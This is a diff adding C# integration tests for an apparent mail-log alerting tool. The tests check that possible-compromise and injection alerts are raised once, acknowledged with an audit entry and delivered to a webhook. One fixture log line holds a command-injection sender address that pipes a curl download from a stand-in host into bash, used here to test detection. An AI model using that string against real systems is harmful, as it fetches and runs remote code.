@@ -1,0 +1,125 @@
+using System.Globalization;
+using System.Net;
+using System.Text.Json;
+using AttackDash.Ingestion.Hosting;
+using AttackDash.Operations.Alerts;
+using AttackDash.Storage.Alerts;
+using AttackDash.Storage.Hosting;
+using Microsoft.Extensions.Configuration;
+using Microsoft.Extensions.DependencyInjection;
+using Microsoft.Extensions.Hosting;
+
+namespace AttackDash.Storage.IntegrationTests;
+
+/// <summary>Live alerts: raised from the newest lines whichever process ingested them, once per quiet time, and carried by a real HTTP webhook.</summary>
+[Collection(PostgresCollection.Name)]
+public sealed class AlertTests(PostgresFixture pg)
+{
+    private static readonly AlertRules Rules = new(AlertKinds.All, TimeSpan.FromDays(30), TimeSpan.FromHours(1));
+
+    internal static string Line(DateTimeOffset t, string message) => $"{t.ToString("yyyy-MM-dd'T'HH:mm:sszzz", CultureInfo.InvariantCulture)} mx sm-mta[{t.Second + 100}]: {message}";
+
+    internal static string AuthFailure(DateTimeOffset t, string ip, string user) =>
+        Line(t, $"551A00aa001201: AUTH failure (PLAIN): authentication failure (-13) SASL(-13): authentication failure: Password verification failed, user={user}, relay=[{ip}]");
+
+    internal static string AuthSuccess(DateTimeOffset t, string ip, string user) =>
+        Line(t, $"551A05aa001300: AUTH=server, relay=[{ip}], authid={user}, mech=PLAIN, bits=0");
+
+    [Fact]
+    public async Task A_login_from_a_client_that_attacked_raises_one_alert_and_the_same_lines_raise_nothing_again()
+    {
+        var cs = await pg.NewDatabaseAsync();
+        using var dir = new TempDir();
+        var now = DateTimeOffset.UtcNow;
+        var log = dir.File("maillog");
+        await File.WriteAllLinesAsync(log,
+        [
+            AuthSuccess(now.AddDays(-400), "185.220.101.7", "admin"),   // history, not news
+            .. Enumerable.Range(0, 3).Select(i => AuthFailure(now.AddMinutes(-10).AddSeconds(i), "185.220.101.7", "admin")),
+            AuthSuccess(now.AddMinutes(-5), "185.220.101.7", "admin"),
+            AuthSuccess(now.AddMinutes(-4), "185.220.101.7", "admin<!channel>"),   // the same client again: quiet
+            AuthSuccess(now.AddMinutes(-5), "62.233.50.9", "alice"),            // never attacked: no alert
+            Line(now.AddMinutes(-3), "5392CiAa003103: from=<$(curl -s http://x.example/a|bash)@x>, size=0, class=0, nrcpts=0, proto=ESMTP, daemon=MTA, relay=[185.220.101.6]"),
+        ]);
+        Assert.Equal(0, TestCli.Run(cs, "ingest", log).Exit);
+        var alerts = new AlertService(Store.Of(cs));
+
+        var raised = await alerts.RaiseAsync(now.AddMinutes(-15), Rules);
+
+        Assert.Equal([(AlertKinds.Injection, "185.220.101.6", 1L), (AlertKinds.PossibleCompromise, "185.220.101.7", 3L)],
+            raised.Select(a => (a.Kind, a.Ip, a.Attacks)).OrderBy(a => a.Kind, StringComparer.Ordinal));
+        Assert.Equal("admin<!channel>", raised.Single(a => a.Kind == AlertKinds.PossibleCompromise).Username);   // the newest line is the evidence
+        Assert.Empty(await alerts.RaiseAsync(now.AddMinutes(-15), Rules));
+        Assert.Empty(await alerts.RaiseAsync(now.AddMinutes(-15), Rules with { Kinds = [] }));
+        Assert.Equal(2, await alerts.OpenCountAsync());
+    }
+
+    [Fact]
+    public async Task Acknowledging_an_alert_is_audited_once_and_closes_it()
+    {
+        var cs = await pg.NewDatabaseAsync();
+        using var dir = new TempDir();
+        var now = DateTimeOffset.UtcNow;
+        var log = dir.File("maillog");
+        await File.WriteAllLinesAsync(log, [AuthFailure(now.AddMinutes(-2), "185.220.101.7", "root"), AuthSuccess(now.AddMinutes(-1), "185.220.101.7", "root")]);
+        Assert.Equal(0, TestCli.Run(cs, "ingest", log).Exit);
+        var alerts = new AlertService(Store.Of(cs));
+        var id = (await alerts.RaiseAsync(now.AddMinutes(-15), Rules)).Single().Id;
+
+        Assert.True(await alerts.AcknowledgeAsync(id, "admin"));
+        Assert.False(await alerts.AcknowledgeAsync(id, "someone else"));
+
+        Assert.Equal(0, await alerts.OpenCountAsync());
+        Assert.Equal("admin", (await alerts.ListAsync(openOnly: false, 0, 10)).Rows.Single().AcknowledgedBy);
+        Assert.Equal(1, await TestSql.ScalarAsync(cs, $"SELECT count(*) FROM audit_log WHERE action = 'acknowledge' AND target = 'alert {id}' AND actor = 'admin'"));
+    }
+
+    [Fact]
+    public async Task A_compromise_line_appended_to_a_followed_log_reaches_the_webhook_within_a_minute_and_only_once()
+    {
+        var cs = await pg.NewDatabaseAsync();
+        using var dir = new TempDir();
+        var log = dir.File("mail.log");
+        var now = DateTimeOffset.UtcNow;
+        await File.WriteAllLinesAsync(log, [AuthFailure(now.AddMinutes(-3), "185.220.101.7", "admin")]);
+        using var hook = new WebhookListener();
+        using var host = BuildHost(new Dictionary<string, string?>
+        {
+            ["ConnectionStrings:AttackDash"] = cs,
+            ["Ingest:Paths:0"] = log,
+            ["Ingest:FlushInterval"] = "00:00:00.2",
+            ["GeoIp:Directory"] = "/nonexistent",
+            ["Alerts:Interval"] = "00:00:01",
+            ["Alerts:Webhook:Url"] = hook.Url,
+        });
+        await host.StartAsync();
+        await Task.Delay(1500);
+        var appended = DateTime.UtcNow;
+        await File.AppendAllLinesAsync(log, [AuthSuccess(DateTimeOffset.UtcNow, "185.220.101.7", "admin")]);
+
+        var body = await hook.NextAsync(TimeSpan.FromSeconds(60));
+        var latency = DateTime.UtcNow - appended;
+        await File.AppendAllLinesAsync(log, [AuthSuccess(DateTimeOffset.UtcNow, "185.220.101.7", "admin")]);
+        var again = await hook.NextAsync(TimeSpan.FromSeconds(4));
+        await host.StopAsync();
+
+        var alert = JsonDocument.Parse(body!).RootElement;
+        Assert.Equal(("possible_compromise", "185.220.101.7", "admin", 1L), (alert.GetProperty("kind").GetString(), alert.GetProperty("ip").GetString(),
+            alert.GetProperty("username").GetString(), alert.GetProperty("attacks").GetInt64()));
+        Assert.StartsWith("AttackDash: possible compromise: 185.220.101.7 succeeded as 'admin'", alert.GetProperty("text").GetString(), StringComparison.Ordinal);
+        Assert.True(latency < TimeSpan.FromSeconds(60), $"{latency}");
+        Assert.Null(again);
+        Assert.Equal(1, await TestSql.ScalarAsync(cs, "SELECT count(*) FROM alerts WHERE sent_at IS NOT NULL AND send_attempts = 1"));
+    }
+
+    private static IHost BuildHost(Dictionary<string, string?> settings)
+    {
+        var builder = Host.CreateApplicationBuilder();
+        builder.Configuration.Sources.Clear();
+        builder.Configuration.AddInMemoryCollection(settings);
+        builder.Services.AddAttackDashStorage(builder.Configuration);
+        builder.Services.AddAttackDashIngestion(builder.Configuration);
+        builder.Services.AddAttackDashAlerts(builder.Configuration);
+        return builder.Build();
+    }
+}
